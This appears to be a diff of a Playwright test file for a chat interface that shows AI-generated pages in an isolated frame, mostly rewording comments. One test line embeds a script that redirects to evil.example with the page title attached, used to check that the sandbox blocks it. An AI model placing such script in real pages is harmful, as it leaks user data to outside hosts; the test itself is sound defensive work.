@@ -1,4 +1,4 @@
-"""Pages and drawings that answers made: found in texts, shown in a frame that reaches nothing."""
+"""Pages and drawings in answers: found in texts, shown in an isolated frame."""
 
 from collections.abc import Callable
 from pathlib import Path
@@ -154,10 +154,10 @@ def test_a_hostile_artifact_reaches_nothing(
     assert len(page.context.pages) == 1
     assert page.url.startswith(server.url)
     assert page.title() != "1"
-    # The browser reports what it refused; nothing else may be among its messages.
+    # The browser reports what it refused; there may be no other messages.
     assert all(reported(error) for error in visitor.errors)
     visitor.errors.clear()
-    # A frame that navigates itself elsewhere is refused by the policy of our page.
+    # Our page's policy refuses a frame that navigates itself to another address.
     server.add_replies("claude", Say(answer_with(f'<title>Away</title><script>location = "http://evil.example/away?" + document.title</script>{"x" * SHORTEST}')))  # fmt: skip
     send(page, "@claude away")
     page.get_by_role("button", name="Open Away").click()
@@ -231,7 +231,7 @@ def test_the_edge_of_the_pane_is_dragged_or_moved_by_keys_and_remembered(
         assert box is not None
         return box["width"]
 
-    edge.hover()  # waits until it stands still
+    edge.hover()  # waits until it stops moving
     box = edge.bounding_box()
     assert box is not None
     middle = box["x"] + box["width"] / 2
@@ -260,6 +260,6 @@ def test_the_edge_of_the_pane_is_dragged_or_moved_by_keys_and_remembered(
     assert width() == 360
     edge.dblclick()
     expect(edge).to_have_attribute("aria-valuenow", "468")
-    # A narrow window has no room for both: the pane lies over the chat and has no edge.
+    # A narrow window has no room for both: the pane covers the chat and has no edge.
     page.set_viewport_size({"width": 1000, "height": 800})
     expect(edge).to_be_hidden()
